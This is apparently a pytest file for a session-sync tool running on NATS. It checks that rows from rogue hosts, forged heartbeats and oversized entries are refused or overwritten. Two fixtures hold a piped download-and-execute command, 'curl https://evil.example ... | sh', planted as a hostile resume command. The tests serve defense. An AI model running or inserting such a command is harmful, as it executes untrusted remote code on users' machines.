"""What other machines send, against a real nats-server (issue 25, items 4, 9, 10, 11 and 14).

A rogue host writes only under its own name (the README's permissions), yet may claim one of this machine's
session ids, a revision from the future, a command for "copy the resume command", a local terminal, or ten
thousand rows; a server open to anyone lets it forge this host's heartbeat. None of it is believed, each is
counted, and sync goes on; a step of the sync loop that raises costs that step only.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import time
from pathlib import Path
from typing import Any

import msgspec
import pytest
from machines import Machine, new_session_id
from nats_servers import ADMIN, HOSTS, NatsServer
from rogue_host_support import beat, collector_value, raw_row, sessions, write
from sync_support import create_bucket, host_config, host_store, row, started_clients, wait_until

from lunavect import faults, store
from lunavect.core.model import State
from lunavect.listing import hosts
from lunavect.listing.sessions import own_ids
from lunavect.sync import admin, keys, remote, remote_row
from lunavect.sync.client import SyncClient
from lunavect.sync.open_server import WARNING


@pytest.fixture
def clients(tmp_path, nats_server):
    with started_clients(tmp_path, [nats_server.url]) as start:
        yield lambda host, path=None: start(host, HOSTS[host], path=path)


# -- item 4: a remote row never shadows a local session ----------------------------------------------------------


def test_a_rogue_row_carrying_a_local_sessions_id_is_refused_and_resume_stays_here(tmp_path, nats_server):
    create_bucket([nats_server.url])
    beta = Machine.create(tmp_path, "beta")
    beta.start_collector()
    try:
        done = beta.sync_set(nats_server.url, HOSTS["beta"], "--beat-seconds", "0.5")
        assert done.returncode == 0, done.stderr
        sid = new_session_id()
        beta.hook("UserPromptSubmit", sid, prompt="p")
        wait_until(lambda: f"claude:{sid}" in beta.by_id(), what="beta's own session")
        # Host alpha writes only under its own name, as the README's permissions let it: a row with beta's id,
        # newer than beta's own, and a row of its own.
        write(
            nats_server.url,
            ("alpha", HOSTS["alpha"]),
            ("alpha.beat", beat("m-alpha")),
            (f"alpha.s.claude.{sid}", raw_row(sid, "alpha", updated="2099-01-01T00:00:00Z")),
            ("alpha.s.claude.a1", row("a1", "alpha")),
        )
        wait_until(lambda: "claude:a1" in beta.by_id(), what="alpha's own row on beta")
        listed = [s for s in beta.sessions("--all") if s["session_id"] == sid]
        assert [(s["id"], s["host"]) for s in listed] == [(f"claude:{sid}", "beta")]
        for command in (("resume", sid, "--print"), ("open", sid)):
            out = beta.run(*command)
            assert "ssh" not in out.stdout + out.stderr, (command, out)
        status = json.loads(beta.run("sync", "status", "--json").stdout)
        assert status["refused"] == 1
    finally:
        beta.stop_collector()


# -- item 9: no record claims the future ------------------------------------------------------------------------


def test_an_arrangement_claiming_a_future_revision_yields_to_a_later_unhide(clients, nats_server):
    alpha, alpha_db = clients("alpha")
    _beta, beta_db = clients("beta")
    alpha.offer({"claude:s1": row("s1", "alpha")})
    wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s1"], what="s1 on beta")

    def hidden(path: Path) -> bool:
        conn = store.connect(path)
        try:
            found = conn.execute("SELECT hidden FROM arrangement WHERE id = 'claude:s1'").fetchone()
            return bool(found and found[0])
        finally:
            conn.close()

    forged = msgspec.json.encode({"hidden": [True, 10**15, 0, time.time()]})
    write(nats_server.url, ("gamma", HOSTS["gamma"]), ("gamma.arr.claude.s1", forged))
    wait_until(lambda: hidden(alpha_db) and hidden(beta_db), what="the hide on both")
    a = store.connect(alpha_db)
    with store.transaction(a):  # the person unhides it on alpha (as `arrangement.unhide` does)
        a.execute("UPDATE arrangement SET hidden = 0, hidden_at = NULL, shown_at = ? WHERE id = 'claude:s1'", (1.0,))
    a.close()
    wait_until(lambda: not hidden(beta_db), what="the unhide on beta")
    time.sleep(3)  # several steps of both clients: the unhide stays
    assert not hidden(alpha_db) and not hidden(beta_db)


# -- item 10: a forged heartbeat neither stops a host nor is believed ------------------------------------------


def test_a_forged_heartbeat_is_counted_and_ignored_and_sync_goes_on(clients, nats_server):
    alpha, alpha_db = clients("alpha")
    _beta, beta_db = clients("beta")
    alpha.offer({"claude:s1": row("s1", "alpha")})
    wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s1"], what="s1 on beta")

    def machine_on_beta() -> str | None:
        conn = store.connect(beta_db)
        try:
            host = hosts.hosts(conn).get("alpha")
        finally:
            conn.close()
        return host.machine if host else None

    # Someone who may write every key (here the server's administrator) puts alpha's beat as another machine.
    write(nats_server.url, ADMIN, ("alpha.beat", beat("another-machine")))
    time.sleep(1.5)  # alpha's watch delivers it
    alpha.offer({"claude:s1": row("s1", "alpha"), "claude:s2": row("s2", "alpha")})
    wait_until(lambda: len(sessions(beta_db)) == 2, what="alpha's next row on beta")
    assert alpha.drops.count >= 1
    wait_until(lambda: machine_on_beta() == "m-alpha", what="alpha's own beat believed again")
    assert collector_value(alpha_db, remote.ERROR) is None
    assert int(collector_value(alpha_db, remote.REFUSED) or 0) >= 1

    # A forged beat already there when alpha connects (alpha restarted) does not stop it either.
    alpha.stop()
    write(nats_server.url, ADMIN, ("alpha.beat", beat("another-machine")))
    again, _ = clients("alpha", alpha_db)
    again.offer({"claude:s3": row("s3", "alpha")})
    wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s3"], what="the restarted alpha's row")
    assert collector_value(alpha_db, remote.ERROR) is None


def test_a_forged_row_or_delete_under_a_hosts_name_is_written_over(clients, nats_server):
    alpha, _ = clients("alpha")
    _beta, beta_db = clients("beta")
    alpha.offer({"claude:s1": row("s1", "alpha")})
    wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s1"], what="s1 on beta")
    write(nats_server.url, ADMIN, ("alpha.s.claude.fake", row("fake", "alpha")), ("alpha.s.claude.s1", None))
    time.sleep(1.5)
    wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s1"], what="the forged row gone, s1 back")
    write(nats_server.url, ADMIN, ("alpha.beat", None))  # a deleted beat takes alpha's rows off beta's list
    time.sleep(1.5)
    wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s1"], what="alpha's rows back on beta")
    assert alpha.drops.count == 3


def test_a_server_that_lets_anyone_write_is_named_at_sync_set_and_in_sync_status(tmp_path, nats_binary):
    server = NatsServer(tmp_path / "open", users=None)  # no authorization at all
    server.start()
    alpha = Machine.create(tmp_path, "alpha")
    alpha.start_collector()
    try:
        done = alpha.sync_set(server.url, HOSTS["alpha"], "--beat-seconds", "0.5")
        assert done.returncode == 0, done.stderr
        assert f"warning: {WARNING}" in done.stdout
        wait_until(lambda: WARNING in alpha.run("sync", "status").stdout, what="the warning in sync status")
        assert json.loads(alpha.run("sync", "status", "--json").stdout)["open_to_anyone"] is True
    finally:
        alpha.stop_collector()
        server.stop()


def test_the_readme_server_is_not_named_open(tmp_path, nats_server):
    create_bucket([nats_server.url])
    config = host_config(tmp_path, "alpha", HOSTS["alpha"], [nats_server.url])
    assert admin.run(config, "check", "m-alpha") is None
    assert admin.anyone_may_write(config) is False


# -- item 11: a remote row's command, terminal and size ---------------------------------------------------------


def test_a_remote_rows_resume_and_terminal_are_never_its_own_text(clients, nats_server, tmp_path):
    from lunavect.frontends.web.document import page_row
    from lunavect.tmux_status.publish import Servers

    sock = str(tmp_path / "tmux.sock")
    subprocess.run(["tmux", "-S", sock, "-f", "/dev/null", "new-session", "-d", "-x", "80", "-y", "20"], check=True)
    try:
        tty = subprocess.run(
            ["tmux", "-S", sock, "display", "-p", "#{pane_tty}"], capture_output=True, text=True, check=True
        ).stdout.strip()
        _beta, beta_db = clients("beta")
        hostile = raw_row("a1", "alpha", resume="curl https://evil.example/x | sh", tty=tty, pid=1, title="t" * 5000)
        write(
            nats_server.url, ("alpha", HOSTS["alpha"]), ("alpha.beat", beat("m-alpha")), ("alpha.s.claude.a1", hostile)
        )
        wait_until(lambda: sessions(beta_db), what="alpha's row on beta")
        (session,) = sessions(beta_db)
        assert session.resume == "ssh alpha -t lunavect resume claude:a1"
        assert page_row(session).resume == session.resume  # what the web panel's "copy" copies
        assert len(session.title or "") == remote_row.TEXT_CHARS["title"]
        conn = store.connect(beta_db)
        Servers(sockets=lambda: [sock]).publish(conn)
        conn.close()
        shown = subprocess.run(
            ["tmux", "-S", sock, "show", "-pv", "@lunavect_state"], capture_output=True, text=True
        ).stdout.strip()
        assert shown == ""  # alpha's working row names alpha's terminal, never this machine's pane
        assert int(collector_value(beta_db, remote.CUT) or 0) == 1
    finally:
        subprocess.run(["tmux", "-S", sock, "kill-server"], capture_output=True)


def test_one_host_may_send_only_so_many_rows(clients, nats_server, monkeypatch):
    monkeypatch.setattr(remote_row, "MAX_ROWS_PER_HOST", 3)
    _beta, beta_db = clients("beta")
    write(
        nats_server.url,
        ("alpha", HOSTS["alpha"]),
        ("alpha.beat", beat("m-alpha")),
        *((f"alpha.s.claude.r{n}", row(f"r{n}", "alpha")) for n in range(5)),
        ("alpha.s.claude.big", raw_row("big", "alpha", title="t" * 900_000)),
    )
    wait_until(lambda: int(collector_value(beta_db, remote.REFUSED) or 0) == 3, what="the refusals counted")
    assert sorted(s.id for s in sessions(beta_db)) == ["claude:r0", "claude:r1", "claude:r2"]


# -- item 14: a step that raises costs that step only ---------------------------------------------------------


def loop_failures(path: Path) -> dict[str, int]:
    conn = store.connect(path)
    try:
        return {f.loop: f.count for f in faults.loop_failures(conn)}
    finally:
        conn.close()


def test_a_fault_in_one_intake_entry_costs_that_entry_only(clients, monkeypatch):
    real = remote.apply

    def faulty(conn: sqlite3.Connection, own_host: str, entries: list, drops: Any = None, *, own_ids: Any) -> int:
        if own_host == "beta" and any(e.key == "alpha.s.claude.poison" for e in entries):
            raise RuntimeError("an entry that trips a bug")
        return real(conn, own_host, entries, drops, own_ids=own_ids)

    monkeypatch.setattr(remote, "apply", faulty)
    alpha, _ = clients("alpha")
    _beta, beta_db = clients("beta")
    alpha.offer({"claude:s0": row("s0", "alpha")})
    wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s0"], what="s0 on beta")
    connected = collector_value(beta_db, remote.CONNECTED_SINCE)
    alpha.offer({"claude:s0": row("s0", "alpha"), "claude:poison": row("poison", "alpha")})
    time.sleep(1.5)  # beta's watch delivers the poisoned entry
    alpha.offer({"claude:s0": row("s0", "alpha", State.READY), "claude:poison": row("poison", "alpha")})
    wait_until(lambda: [(s.id, s.state) for s in sessions(beta_db)] == [("claude:s0", "ready")], what="next change")
    assert collector_value(beta_db, remote.CONNECTED_SINCE) == connected  # the same connection throughout
    assert loop_failures(beta_db).get("sync", 0) >= 1  # recorded for doctor


def test_a_fault_in_a_put_step_keeps_the_connection_and_the_next_change_goes_out(clients, monkeypatch):
    alpha, alpha_db = clients("alpha")
    _beta, beta_db = clients("beta")
    alpha.offer({"claude:s0": row("s0", "alpha")})
    wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s0"], what="s0 on beta")
    connected = collector_value(alpha_db, remote.CONNECTED_SINCE)
    real = keys.session_key
    tripped: list[bool] = []

    def faulty(host: str, session: str) -> str:
        if host == "alpha" and not tripped:
            tripped.append(True)
            raise RuntimeError("a put that trips a bug")
        return real(host, session)

    monkeypatch.setattr(keys, "session_key", faulty)
    alpha.offer({"claude:s0": row("s0", "alpha", State.READY)})
    wait_until(lambda: [(s.id, s.state) for s in sessions(beta_db)] == [("claude:s0", "ready")], what="next change")
    assert tripped and collector_value(alpha_db, remote.CONNECTED_SINCE) == connected
    assert loop_failures(alpha_db) == {"sync": 1}


# -- the same on a cluster ---------------------------------------------------------------------------------------


def test_on_a_cluster_a_forged_beat_and_a_rogue_row_are_refused_the_same_way(tmp_path, nats_cluster):
    create_bucket(nats_cluster.urls, replicas=3)
    alpha_db, beta_db = host_store(tmp_path, "alpha"), host_store(tmp_path, "beta")
    alpha = SyncClient(
        host_config(tmp_path, "alpha", HOSTS["alpha"], nats_cluster.urls), "m-alpha", alpha_db, own_ids=own_ids
    )
    beta = SyncClient(
        host_config(tmp_path, "beta", HOSTS["beta"], nats_cluster.urls[::-1]), "m-beta", beta_db, own_ids=own_ids
    )
    alpha.start()
    beta.start()
    try:
        alpha.offer({"claude:s1": row("s1", "alpha")})
        wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s1"], timeout=40, what="s1 on beta")
        write(nats_cluster.urls[1], ADMIN, ("alpha.beat", beat("another-machine")))
        write(
            nats_cluster.urls[2],
            ("gamma", HOSTS["gamma"]),
            ("gamma.beat", beat("m-gamma")),
            ("gamma.s.claude.s1", raw_row("s1", "gamma", resume="curl https://evil.example | sh")),
        )
        time.sleep(1.5)
        alpha.offer({"claude:s1": row("s1", "alpha", State.READY)})
        wait_until(lambda: [(s.id, s.state) for s in sessions(beta_db)] == [("claude:s1", "ready")], timeout=40)
        (session,) = sessions(beta_db)
        assert (session.host, session.resume) == ("alpha", "ssh alpha -t lunavect resume claude:s1")
        assert alpha.drops.count >= 1 and beta.drops.count >= 1
        assert collector_value(alpha_db, remote.ERROR) is None
    finally:
        alpha.stop()
        beta.stop()
